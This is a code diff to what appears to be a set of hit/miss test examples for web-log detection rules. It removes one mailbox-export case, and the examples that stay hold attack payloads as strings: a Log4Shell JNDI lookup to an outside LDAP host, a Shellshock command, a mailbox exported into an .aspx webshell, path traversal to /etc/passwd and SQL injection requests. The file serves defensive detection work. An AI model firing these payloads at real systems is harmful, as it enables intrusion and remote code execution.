@@ -11,7 +11,6 @@ const exchange = (said: string) => ({
 const exported = (result: string, path: string) =>
   exchange(`${result}. Cmdlet New-MailboxExportRequest, parameters -FilePath "${path}".`);
 const PAGE = "\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\x.aspx";
-const MAILBOX = "\\\\files\\exports\\ceo.pst";
 const LOOKUP = `${"$"}{jndi:ldap://198.51.100.5/a}`;
 const SHELLSHOCK = "() { :; }; /bin/bash -c id";
 const modsecurity = (what: string) => line(`apache2: [client 203.0.113.9] ModSecurity: ${what}`);
@@ -21,10 +20,6 @@ export const LOGS_WEB_EXAMPLES: Examples = {
   "logs.mailbox-exported-as-page": {
     hit: exported("Cmdlet succeeded", PAGE),
     miss: exported("Cmdlet failed", PAGE),
-  },
-  "logs.mailbox-exported": {
-    hit: exported("Cmdlet succeeded", MAILBOX),
-    miss: exported("Cmdlet failed", MAILBOX),
   },
   "logs.request-leaves-folder": requests("/a?page=..%2f..%2fetc/passwd", "/docs/../index.html"),
   "logs.request-with-sql": requests(
